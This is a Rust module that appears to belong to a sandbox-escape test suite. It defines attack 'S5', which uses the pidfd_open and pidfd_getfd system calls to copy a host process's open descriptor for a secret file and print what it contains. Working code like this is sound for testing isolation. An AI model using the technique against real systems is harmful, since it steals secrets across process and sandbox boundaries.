//! S5: takes an open descriptor out of a process outside.

use std::io;

use crate::attack::{Attack, Judge};
use crate::attacks::kernel::sys;
use crate::attacks::target;
use crate::stage::Stage;

pub(super) const ROW: Attack = Attack {
    id: "S5",
    name: "pidfd-getfd",
    what: "copies a host process's descriptor of a secret file",
    prepare,
    attack,
    ..Attack::ROW
};

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    Ok(target::start(stage)?.unread())
}

fn attack(args: &[String]) -> io::Result<()> {
    target::first(&target::reach(args)?, |pid| {
        let pidfd = sys!(SYS_pidfd_open, pid, 0)?;
        target::print_all(sys!(SYS_pidfd_getfd, pidfd, target::SECRET_FD, 0)?)
    })
}
